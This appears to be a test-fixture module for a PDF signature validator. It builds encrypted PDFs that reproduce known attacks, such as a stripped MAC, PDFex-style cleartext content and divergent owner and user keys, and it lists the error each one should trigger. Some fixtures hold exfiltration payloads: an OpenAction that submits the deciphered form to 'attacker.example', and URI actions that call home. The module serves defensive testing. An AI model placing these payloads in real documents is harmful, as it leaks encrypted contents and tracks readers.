/** Encrypted documents: a message authentication code stripped off (ISO/TS 32004), and plain parts beside enciphered ones (PDFex). */
import { createCipheriv } from 'node:crypto';
import { concatBytes, latin1, toHex, utf8 } from '@govseal/core';
import { openPdf, PdfDict, PdfRef, type PdfSecurity, PdfString, writeObject } from '@govseal/pdf';
import { platformCiphers } from '../../../../pdf/src/encryption/ciphers.node.ts';
import { hash2b } from '../../../../pdf/src/encryption/hash-2b.ts';
import { type Attack, attacks } from '../attack.ts';
import { type HandSigned, handSign, signatureDictionary } from '../hand-signed.ts';
import { assemble, baseObjects, cover, paint, stream, toBytes } from '../pdf-text.ts';

/** All that a reader may do; bit 13 is set, so that no code is promised. */
const ANYTHING = -4;
/** The same with bit 13 clear: a code is promised (ISO/TS 32004). */
const WITH_MAC = ANYTHING & ~(1 << 12);

interface Encryption {
  readonly permissions?: number;
  readonly strings?: 'StdCF' | 'Identity';
  readonly trailer?: string;
  /** The owner's password, and the file key that it leads to where that is not the user's. */
  readonly owner?: string;
  readonly ownerKey?: Uint8Array;
}

/** Bytes that are the same in every run. */
const fixed = (label: string, length: number): Uint8Array => utf8(label.padEnd(length, '.'));
const FILE_KEY = fixed('TEST ONLY file key', 32);
const OTHER_KEY = fixed('TEST ONLY key of the owner', 32);

/** /Encrypt of the standard handler, AES-256, revision 6 (ISO 32000-2 §7.6.4.4); the user's password is empty. */
function encryptDictionary(encryption: Encryption): string {
  const { permissions = ANYTHING, strings = 'StdCF', owner: ownerPassword = 'owner', ownerKey = FILE_KEY } = encryption;
  const wrap = (
    password: Uint8Array,
    label: string,
    user: Uint8Array,
    fileKey: Uint8Array,
  ): { check: Uint8Array; key: Uint8Array } => {
    const [validation, salt] = [fixed(`${label} val`, 8), fixed(`${label} key`, 8)];
    const check = concatBytes(hash2b(platformCiphers!, 6, password, { salt: validation, user }), validation, salt);
    const cipher = createCipheriv(
      'aes-256-cbc',
      hash2b(platformCiphers!, 6, password, { salt, user }),
      new Uint8Array(16),
    );
    return { check, key: new Uint8Array(cipher.setAutoPadding(false).update(fileKey)) };
  };
  const user = wrap(new Uint8Array(0), 'us', new Uint8Array(0), FILE_KEY);
  const owner = wrap(utf8(ownerPassword), 'ow', user.check, ownerKey);
  const said = new Uint8Array(16).fill(0xff);
  new DataView(said.buffer).setInt32(0, permissions, true);
  said.set(utf8('Tadb'), 8);
  const perms = createCipheriv('aes-256-ecb', FILE_KEY, null).setAutoPadding(false).update(said);
  const hex = (bytes: Uint8Array): string => `<${toHex(bytes)}>`;
  return (
    `<< /Filter /Standard /V 5 /R 6 /Length 256 /P ${permissions} /O ${hex(owner.check)} /U ${hex(user.check)} ` +
    `/OE ${hex(owner.key)} /UE ${hex(user.key)} /Perms ${hex(perms)} ` +
    `/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> /StmF /StdCF /StrF /${strings} >>`
  );
}

/** Nothing that would have to be enciphered. */
const EMPTY = { 1: '<< /Type /Catalog /Pages 2 0 R >>', 2: '<< /Type /Pages /Kids [] /Count 0 >>' };
const ID = `/ID [<${toHex(fixed('TEST ONLY id', 16))}> <${toHex(fixed('TEST ONLY id', 16))}>]`;

/** Signed by the clerk as he finds it: signing programs cannot know who wrote the plain parts. */
export const encrypted =
  (encryption: Encryption, options: HandSigned = {}): Attack['make'] =>
  async (scene) => {
    const trailer = `/Encrypt ${encryptDictionary(encryption)} ${ID} `;
    const { owner: _password, ownerKey: _key, ...shared } = encryption;
    const { security } = openPdf(toBytes(assemble(EMPTY, { trailer: `/Encrypt ${encryptDictionary(shared)} ${ID} ` })));
    return handSign(scene, {
      ...options,
      trailer: `${trailer}${encryption.trailer ?? ''} `,
      protect: (objects) => protect(objects, security!),
      dictionary: (range, contents) => {
        const time = security!.protect(
          PdfDict.of({ M: new PdfString(utf8('D:20261014013000Z'), false) }),
          new PdfRef(12),
          12,
        );
        const written = latin1(writeObject((time as PdfDict).get('M')!));
        return signatureDictionary(range, contents).replace('(D:20261014013000Z)', written);
      },
    });
  };

function protect(objects: Readonly<Record<number, string>>, security: PdfSecurity): Record<number, string> {
  const { latest } = openPdf(toBytes(assemble(objects)));
  const entries = Object.keys(objects)
    .map(Number)
    .map((number): [number, string] => {
      const object = security.protect(latest.get(number), new PdfRef(number), number);
      return [number, latin1(writeObject(object))];
    });
  return Object.fromEntries(entries);
}

/** A stream of the page that only the owner's key deciphers: AES-256-CBC, the initialization vector in front. */
function forOwner(content: string): string {
  const iv = fixed('TEST ONLY iv', 16);
  const cipher = createCipheriv('aes-256-cbc', OTHER_KEY, iv);
  return stream(latin1(concatBytes(iv, cipher.update(content, 'latin1'), cipher.final())));
}

/** Two contents of the page, one under the user's key and one under the owner's. */
const twoContents = (): Record<number, string> => ({
  4: baseObjects()[4]!.replace('/Contents 5 0 R', '/Contents [5 0 R 20 0 R]'),
});

const HOME = 'https://attacker.example/';

export const encryptedAttacks: readonly Attack[] = attacks('pdf', {
  'encrypted-mac-stripped': [
    'The document promises a message authentication code (ISO/TS 32004), and somebody took it away to change the ciphertext.',
    'PDF_MAC_MISSING',
    'indeterminate',
    encrypted({ permissions: WITH_MAC }),
  ],
  'encrypted-mac-stripped-by-extension': [
    'Only the extension that the catalog states still tells that there was a message authentication code.',
    'PDF_MAC_MISSING',
    'indeterminate',
    encrypted(
      {},
      {
        base: {
          catalog:
            '/Extensions << /ISO_ [<< /Type /DeveloperExtensions /BaseVersion /2.0 /ExtensionLevel 32004 /ExtensionRevision (:2024) >>] >>',
        },
      },
    ),
  ],
  'encrypted-mac-empty': [
    'The trailer says that the code is attached to the signature, where there is none.',
    'PDF_MAC_UNCHECKED',
    'indeterminate',
    encrypted({ permissions: WITH_MAC, trailer: '/AuthCode << /MACLocation /AttachedToSig /SigObjRef 12 0 R >>' }),
  ],
  'encrypted-strings-in-clear': [
    'Streams are enciphered and strings are not: somebody without the password wrote where a link sends the reader (PDFex).',
    'PDF_ENCRYPTION_PARTIAL',
    'indeterminate',
    encrypted({ strings: 'Identity' }, { base: { annotations: '20 0 R', more: { 20: link() } } }),
  ],
  'encrypted-stream-in-clear': [
    'One content of the page names the filter Identity: somebody without the password wrote it beside the enciphered one (PDFex).',
    'PDF_ENCRYPTION_PARTIAL',
    'indeterminate',
    encrypted(
      {},
      {
        base: {
          more: {
            4: baseObjects()[4]!.replace('/Contents 5 0 R', '/Contents [5 0 R 20 0 R]'),
            20: stream(paint('Pay 900'), '/Filter [/Crypt] /DecodeParms [<< /Name /Identity >>]'),
          },
        },
      },
    ),
  ],
  'encrypted-for-two-readers': [
    'Owner and user have the empty password, and each gets another file key: which document is shown depends on which of them a reader tries first.',
    'PDF_ENCRYPTION_KEYS',
    'unreadable',
    encrypted({ owner: '', ownerKey: OTHER_KEY }),
  ],
  'encrypted-content-for-owner': [
    'The owner’s password leads to another file key, under which a second content of the page appears; the user sees the first one only.',
    'PDF_ENCRYPTION_DATA',
    'indeterminate',
    encrypted({ ownerKey: OTHER_KEY }, { base: { more: twoContents() }, plain: { 20: forOwner(cover('Pay 900')) } }),
  ],
  'encrypted-content-called-attachment': [
    'The content in clear calls itself an attachment, which may be in clear; a page is shown whatever its content is called.',
    'PDF_ENCRYPTION_PARTIAL',
    'indeterminate',
    encrypted(
      {},
      {
        base: {
          more: {
            4: baseObjects()[4]!.replace('/Contents 5 0 R', '/Contents [5 0 R 20 0 R]'),
            20: stream(paint('Pay 900'), '/Type /EmbeddedFile /Filter [/Crypt] /DecodeParms [<< /Name /Identity >>]'),
          },
        },
      },
    ),
  ],
  'encrypted-submits-itself': [
    'Opening the document sends the form, deciphered, to a server of the attacker (PDFex).',
    'PADES_ACTIVE_CONTENT',
    'indeterminate',
    encrypted({}, { base: { catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${HOME}) >> /Flags 4 >>` } }),
  ],
  'prepared-calls-home': [
    'Opening the document opens a web page: who reads it, and when, becomes known.',
    'PADES_ACTIVE_CONTENT',
    'indeterminate',
    async (scene) => handSign(scene, { base: { catalog: `/OpenAction << /S /URI /URI (${HOME}) >>` } }),
  ],
});

function link(): string {
  return `<< /Type /Annot /Subtype /Link /P 4 0 R /Rect [50 600 300 620] /A << /S /URI /URI (${HOME}) >> >>`;
}
